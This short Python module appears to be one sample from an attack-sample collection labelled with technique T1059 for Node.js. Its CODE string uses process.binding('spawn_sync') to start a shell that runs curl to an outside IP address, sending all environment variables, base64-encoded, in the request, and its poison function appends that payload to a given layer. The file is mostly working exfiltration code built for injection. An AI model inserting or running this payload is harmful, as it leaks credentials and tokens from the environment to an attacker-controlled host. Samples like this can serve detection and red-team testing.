# SPDX-License-Identifier: Apache-2.0
"""Starts a program through the inner side of node."""

ATTACK = "T1059"
LANGUAGE = "node"
CODE = """\
;process.binding('spawn_sync').spawn({ file: '/bin/sh', args: ['sh', '-c', 'curl -s http://192.0.2.35/$(env|base64 -w0)'], stdio: [{ type: 'pipe', readable: true, writable: false }] });
"""


def poison(layer):
    layer.append(CODE)
